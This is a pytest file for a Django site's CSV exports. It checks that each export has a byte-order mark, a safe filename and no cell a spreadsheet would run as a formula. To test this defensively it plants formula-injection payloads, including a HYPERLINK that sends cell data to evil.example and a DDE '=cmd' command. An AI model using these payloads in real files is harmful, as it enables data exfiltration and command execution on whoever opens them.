"""Every CSV download of the site, taken as the persona allowed it, with hostile values
planted in the records it lists: each carries the UTF-8 byte-order mark, a safe
filename, and no cell that a spreadsheet would run as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from councils.models import Councillor
from mentoring.models import Mentor

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Written with .update(): the forms and models refuse control characters in names.
PLANTED = {
    "councillor_a": {
        "full_name": '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
        "ward": "\t=1+1",
    },
    "councillor_b": {"full_name": "+44 Ward Councillor", "ward": "\r=2+2"},
    "mentor_a": {"full_name": "-2+3 Mentor", "organisation": "@SUM(A1:A9)"},
    "mentor_b": {"full_name": "=cmd|' /C calc'!A0"},
}
SAFE_DISPOSITION = re.compile(r'attachment; filename="[A-Za-z0-9][A-Za-z0-9._-]*\.csv"')

A_NAME, A_WARD = PLANTED["councillor_a"]["full_name"], PLANTED["councillor_a"]["ward"]
B_NAME, B_WARD = PLANTED["councillor_b"]["full_name"], PLANTED["councillor_b"]["ward"]
MENTOR_A, MENTOR_A_ORG = PLANTED["mentor_a"]["full_name"], PLANTED["mentor_a"]["organisation"]
MENTOR_B = PLANTED["mentor_b"]["full_name"]

# name: (who may download it, URL arguments, the planted values it shows)
EXPORTS = {
    "councillor_export": ("manager", None, [A_NAME, A_WARD, B_NAME, B_WARD]),
    "placement_export": ("manager", None, [A_NAME, B_NAME, MENTOR_A, MENTOR_B]),
    "mentor_export": ("manager", None, [MENTOR_A, MENTOR_A_ORG, MENTOR_B]),
    "privacy_my_data_export": ("councillor_a", lambda users: {"fmt": "csv"}, [A_NAME, A_WARD]),
    "privacy_person_export": (
        "manager",
        lambda users: {
            "kind": "councillor",
            "pk": users["councillor_a"].councillor.pk,
            "fmt": "csv",
        },
        [A_NAME, A_WARD],
    ),
    "privacy_person_export:mentor": (
        "manager",
        lambda users: {"kind": "mentor", "pk": users["mentor_a"].mentor.pk, "fmt": "csv"},
        [MENTOR_A, MENTOR_A_ORG],
    ),
    "election_import_sample": ("manager", None, []),
}


def plant(users):
    for persona, fields in PLANTED.items():
        user = users[persona]
        model = Councillor if persona.startswith("councillor") else Mentor
        model.objects.filter(user=user).update(**fields)


def content_of(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize("export", list(EXPORTS))
def test_every_csv_export_has_a_bom_a_safe_filename_and_no_formula_cell(
    export, client_as, persona_users
):
    persona, build, planted = EXPORTS[export]
    plant(persona_users)
    url = reverse(export.split(":")[0], kwargs=build(persona_users) if build else None)

    response = client_as(persona).get(url)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert SAFE_DISPOSITION.fullmatch(response["Content-Disposition"])
    content = content_of(response)
    assert content.startswith("\ufeff".encode()), "no byte-order mark: Excel misreads accents"
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert len(cells) > 1
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for value in planted:  # the hostile records are in it (a list of names may join them)
        assert any(value in cell for cell in cells), f"{value!r} is missing from the export"


def test_no_module_writes_a_csv_response_but_the_helper():
    """A new export goes through core.csv, so the test above can cover it."""
    pattern = re.compile(r"csv\.writer\(|content_type=\"text/csv")
    base = Path(settings.BASE_DIR)
    found = [
        str(path.relative_to(base))
        for folder in base.iterdir()
        if folder.is_dir() and not folder.name.startswith(".")
        for path in folder.rglob("*.py")
        if "tests" not in path.parts
        and path != base / "core" / "csv.py"
        and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert not found, f"CSV written outside core/csv.py (use core.csv.csv_response): {found}"
